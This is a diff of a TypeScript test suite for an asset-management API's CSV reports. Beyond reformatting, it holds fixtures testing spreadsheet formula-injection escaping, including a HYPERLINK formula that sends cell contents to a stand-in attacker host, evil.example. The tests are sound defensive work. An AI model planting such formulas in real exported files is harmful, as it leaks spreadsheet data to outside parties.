@@ -29,10 +29,34 @@ beforeAll(async () => {
   // No Temporal: reports only read the database.
   api = await startApi({ db: db.pool, clock: () => new Date('2030-04-01T09:00:00Z') });
   const rows: AssetInput[] = [
-    asset(1, { department: '営業部', location: '東京', plannedStatus: 'in_stock', userName: '山田 太郎', userEmail: 'taro@example.com', userPhone: '+81 3 1234 5678' }),
-    asset(2, { department: 'Engineering', location: 'Osaka', plannedStatus: 'in_stock', userName: 'Smith, John "Jack"', userEmail: 'jack@example.com' }),
-    asset(3, { department: 'Engineering', location: 'Kobe', plannedStatus: 'in_stock', userName: '=HYPERLINK("http://evil.example/?"&A1,"click")' }),
-    asset(4, { department: 'Accounting', location: 'Line 1\nLine 2', plannedStatus: 'in_stock', userName: '@SUM(1+1)', userPhone: '03-1234-5678' }),
+    asset(1, {
+      department: '営業部',
+      location: '東京',
+      plannedStatus: 'in_stock',
+      userName: '山田 太郎',
+      userEmail: 'taro@example.com',
+      userPhone: '+81 3 1234 5678',
+    }),
+    asset(2, {
+      department: 'Engineering',
+      location: 'Osaka',
+      plannedStatus: 'in_stock',
+      userName: 'Smith, John "Jack"',
+      userEmail: 'jack@example.com',
+    }),
+    asset(3, {
+      department: 'Engineering',
+      location: 'Kobe',
+      plannedStatus: 'in_stock',
+      userName: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    }),
+    asset(4, {
+      department: 'Accounting',
+      location: 'Line 1\nLine 2',
+      plannedStatus: 'in_stock',
+      userName: '@SUM(1+1)',
+      userPhone: '03-1234-5678',
+    }),
     asset(5, { department: 'Sales', location: 'Tokyo', plannedStatus: 'in_use', userName: 'New User' }),
     asset(6, { department: 'Sales', location: 'Tokyo', status: 'in_stock', plannedStatus: 'in_stock' }), // already collected
     asset(7, { department: 'Sales', location: 'Tokyo', status: 'in_stock' }),
@@ -41,7 +65,11 @@ beforeAll(async () => {
   for (const a of rows) await assetsRepo.upsert(db.pool, a);
   // A device assigned to an application that is not delivered yet is on the distribution list too.
   const { application } = await applicationsRepo.create(db.pool, {
-    department: 'HR', deliveryLocation: 'Nagoya', userName: 'Applicant', userEmail: 'applicant@example.com', createdBy: 'test',
+    department: 'HR',
+    deliveryLocation: 'Nagoya',
+    userName: 'Applicant',
+    userEmail: 'applicant@example.com',
+    createdBy: 'test',
   });
   await applicationsRepo.assign(db.pool, application.id, { assetNumber: 'A-000008', workflowId: 'device-A-000008' });
 });
@@ -84,16 +112,22 @@ describe('collection list', () => {
     expect(text).toContain('A-000002,Engineering,Osaka,"Smith, John ""Jack""",jack@example.com,\r\n');
     expect(text).toContain('A-000004,Accounting,"Line 1\nLine 2",\'@SUM(1+1),,03-1234-5678\r\n');
     expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
-    expect(text).toContain('A-000001,営業部,東京,山田 太郎,taro@example.com,\'+81 3 1234 5678\r\n');
+    expect(text).toContain("A-000001,営業部,東京,山田 太郎,taro@example.com,'+81 3 1234 5678\r\n");
   });
 
   it('can be edited in a spreadsheet and imported back: the guard comes off, nothing else changes', async () => {
     const { bytes } = await download('/api/v1/reports/collection-list.csv');
-    const res = await api.call('POST', '/api/v1/assets/import', { token: TOKENS.admin, body: bytes.toString('utf8'), contentType: 'text/csv' });
+    const res = await api.call('POST', '/api/v1/assets/import', {
+      token: TOKENS.admin,
+      body: bytes.toString('utf8'),
+      contentType: 'text/csv',
+    });
     expect(res.status, JSON.stringify(res.body)).toBe(200);
     expect(res.body).toMatchObject({ rows: 4, unchanged: 4, created: 0, updated: 0 });
     expect((await assetsRepo.get(db.pool, 'A-000001'))?.userPhone).toBe('+81 3 1234 5678');
-    expect((await assetsRepo.get(db.pool, 'A-000003'))?.userName).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")');
+    expect((await assetsRepo.get(db.pool, 'A-000003'))?.userName).toBe(
+      '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    );
   });
 });
 
@@ -132,7 +166,11 @@ describe('planned asset status', () => {
 
 describe('roles', () => {
   it('lets every role read the reports and nobody without a token', async () => {
-    for (const path of ['/api/v1/reports/collection-list.csv', '/api/v1/reports/distribution-list.csv', '/api/v1/reports/planned-asset-status']) {
+    for (const path of [
+      '/api/v1/reports/collection-list.csv',
+      '/api/v1/reports/distribution-list.csv',
+      '/api/v1/reports/planned-asset-status',
+    ]) {
       for (const token of [TOKENS.admin, TOKENS.field, TOKENS.viewer]) {
         expect((await download(path, token)).res.status, `${path} ${token}`).toBe(200);
       }
